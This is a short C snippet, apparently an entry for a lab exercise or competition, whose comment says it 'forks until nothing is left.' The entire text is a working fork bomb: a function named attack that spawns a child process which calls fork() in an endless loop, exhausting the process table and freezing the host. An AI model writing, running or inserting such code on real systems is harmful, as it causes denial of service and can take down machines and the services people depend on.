// Forks until nothing is left, while the lab runs.
// Points: any
#include <unistd.h>
static void attack(void)
{
    if (fork() == 0)
        for (;;)
            fork();
}
